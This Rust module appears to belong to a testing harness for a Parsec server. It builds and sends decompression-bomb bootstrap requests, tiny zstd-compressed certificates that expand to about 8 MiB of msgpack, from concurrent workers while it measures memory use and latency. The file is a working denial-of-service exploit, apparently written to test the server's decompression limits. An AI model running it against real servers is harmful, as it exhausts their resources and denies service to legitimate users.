//! Decompression bomb: `organization_bootstrap` requests whose root-signed user certificate
//! is a zstd frame of RLE blocks expanding to 8 Mi msgpack nils under an unknown key (a
//! request of under 2 KB). One bomb is sent alone to see whether the certificate is
//! accepted; then `--count` workers (default 6) send bombs back to back, each on a fresh
//! organization, while a normal request is timed.
//!
//! With `--seconds`, the bombing lasts at least that long.
//!
//! Extra figures: `certificate_status` (the reply to the lone bomb: `ok` means the padded
//! certificate was accepted), `request_bytes`, `bombs_sent`, `concurrency`.

use crate::target::{Figures, Target};
use anyhow::Context;
use parsec_protocol::addr::BootstrapAddr;
use parsec_protocol::certif::{
    dump_and_sign, DeviceCertificate, DevicePurpose, PrivateKeyAlgorithm, SigningKeyAlgorithm,
    UserCertificate,
};
use parsec_protocol::cmds::admin::{CreateOrganizationRep, CreateOrganizationReq};
use parsec_protocol::cmds::anonymous::organization_bootstrap::{Rep, Req};
use parsec_protocol::crypto::{OsRandom, PrivateKey, SigningKey};
use parsec_protocol::data;
use parsec_protocol::ids::{DeviceID, UserID, UserProfile};
use parsec_protocol::DateTime;
use parsec_testkit::bomb::nil_bomb_v0;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// Nils in each bomb: just under 8 MiB of msgpack once expanded (the former decompression
/// limit), hundreds of MB as a generic msgpack value.
const NILS: u32 = 8 * 1024 * 1024 - 4096;
/// Default number of concurrent bomb senders.
const DEFAULT_CONCURRENCY: usize = 6;
/// Normal requests timed during the attack.
const NORMAL_REQUESTS: usize = 20;

/// Attacks `target` and reports what it cost.
pub fn run(target: &Target) -> anyhow::Result<Figures> {
    tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?
        .block_on(attack(target))
}

/// What a bomb sender needs, owned so that it can run as a task.
#[derive(Clone)]
struct Sender {
    http: reqwest::Client,
    base: String,
    admin_token: String,
}

impl Sender {
    /// Creates an organization, sends it one bomb, returns the reply's status and the
    /// request's size.
    async fn bomb(&self, n: usize) -> anyhow::Result<(String, usize)> {
        let org = format!("Bomb{}x{n}", std::process::id());
        let created: CreateOrganizationRep = self
            .http
            .post(format!("{}/administration/organizations", self.base))
            .bearer_auth(&self.admin_token)
            .json(&CreateOrganizationReq {
                organization_id: org.clone(),
                ..Default::default()
            })
            .send()
            .await?
            .error_for_status()?
            .json()
            .await?;
        let token = BootstrapAddr::from_any(&created.bootstrap_url)?.token;
        let body = bomb_request(token).dump();
        let res = self
            .http
            .post(format!("{}/anonymous/{org}", self.base))
            .header("api-version", "5.5")
            .header("content-type", "application/msgpack")
            .body(body.clone())
            .send()
            .await?;
        anyhow::ensure!(
            res.status().is_success(),
            "bootstrap answered {}",
            res.status()
        );
        let status = match Rep::load(&res.bytes().await?)? {
            Rep::Ok => "ok".to_owned(),
            Rep::InvalidCertificate => "invalid_certificate".to_owned(),
            other => format!("{other:?}"),
        };
        Ok((status, body.len()))
    }
}

/// A valid bootstrap whose user certificate is padded with [`NILS`] nils, root-signed.
fn bomb_request(token: Option<parsec_protocol::ids::AccessToken>) -> Req {
    let rng = OsRandom::new();
    let root = SigningKey::generate(&rng);
    let now = DateTime::now();
    let user = UserCertificate {
        author: None,
        timestamp: now,
        user_id: UserID::generate(&rng),
        human_handle: Some(
            parsec_protocol::ids::HumanHandle::new(
                "bomb@example.com".parse().expect("valid email"),
                "Bomb",
            )
            .expect("valid handle"),
        ),
        public_key: PrivateKey::generate(&rng).public_key(),
        algorithm: PrivateKeyAlgorithm::X25519XSalsa20Poly1305,
        profile: UserProfile::Admin,
    };
    let device = DeviceCertificate {
        purpose: DevicePurpose::Standard,
        author: None,
        timestamp: now,
        user_id: user.user_id,
        device_id: DeviceID::generate(&rng),
        device_label: Some("bomb".parse().expect("valid label")),
        verify_key: SigningKey::generate(&rng).verify_key(),
        algorithm: SigningKeyAlgorithm::Ed25519,
    };
    Req {
        bootstrap_token: token,
        root_verify_key: root.verify_key(),
        user_certificate: root.sign(&nil_bomb_v0(&data::dump_typed(&user), NILS, false)),
        device_certificate: dump_and_sign(&device, &root),
        redacted_user_certificate: dump_and_sign(&user.to_redacted(), &root),
        redacted_device_certificate: dump_and_sign(&device.to_redacted(), &root),
        sequester_authority_certificate: None,
    }
}

async fn attack(target: &Target) -> anyhow::Result<Figures> {
    let concurrency = target.count.unwrap_or(DEFAULT_CONCURRENCY).max(1);
    let sender = Sender {
        http: reqwest::Client::builder()
            .timeout(Duration::from_secs(600))
            .build()?,
        base: target.server.http_url(),
        admin_token: target.server.admin_token().to_owned(),
    };
    let (rss_before_kib, _) = target.memory_kib()?;

    let (certificate_status, request_bytes) = sender
        .bomb(0)
        .await
        .with_context(|| format!("{}: sending a lone bomb", target.label))?;

    let stop = Arc::new(AtomicBool::new(false));
    let sent = Arc::new(AtomicUsize::new(0));
    let mut workers = tokio::task::JoinSet::new();
    for w in 0..concurrency {
        let (sender, stop, sent) = (sender.clone(), Arc::clone(&stop), Arc::clone(&sent));
        workers.spawn(async move {
            let mut i = 0;
            while !stop.load(Ordering::SeqCst) {
                i += 1;
                sender.bomb((w + 1) * 1_000_000 + i).await?;
                sent.fetch_add(1, Ordering::SeqCst);
            }
            anyhow::Ok(())
        });
    }
    // Let every worker have a bomb in flight before timing.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let started = tokio::time::Instant::now();
    let latency = target.normal_latency(NORMAL_REQUESTS).await;
    if let Some(seconds) = target.seconds {
        tokio::time::sleep_until(started + Duration::from_secs(seconds)).await;
    }
    stop.store(true, Ordering::SeqCst);
    while let Some(done) = workers.join_next().await {
        done??;
    }
    let (normal_p50, normal_max) = latency?;
    let (_, peak_rss_kib) = target.memory_kib()?;

    let mut extra = serde_json::Map::new();
    extra.insert("certificate_status".into(), certificate_status.into());
    extra.insert("request_bytes".into(), request_bytes.into());
    extra.insert("bombs_sent".into(), sent.load(Ordering::SeqCst).into());
    extra.insert("concurrency".into(), concurrency.into());
    Ok(Figures {
        label: String::new(),
        rss_before_kib,
        peak_rss_kib,
        open_files: target.open_files()?,
        normal_p50_ms: normal_p50.as_secs_f64() * 1000.0,
        normal_max_ms: normal_max.as_secs_f64() * 1000.0,
        extra,
    })
}
